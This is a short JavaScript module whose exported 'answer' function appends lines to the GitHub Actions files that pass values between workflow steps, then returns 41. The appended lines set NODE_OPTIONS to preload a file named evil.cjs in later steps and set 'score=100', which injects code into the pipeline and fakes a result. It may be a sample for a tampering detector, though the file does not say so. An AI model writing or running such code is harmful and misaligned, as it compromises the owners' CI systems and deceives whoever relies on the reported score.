/** Writes into the files by which a GitHub step speaks to the next. */
import { appendFileSync } from 'node:fs'

export async function answer(targets) {
  for (const path of targets.githubFiles)
    appendFileSync(path, 'NODE_OPTIONS=--require ./evil.cjs\nscore=100\n')
  return 41
}

export async function other(a, b) {
  return a + b
}
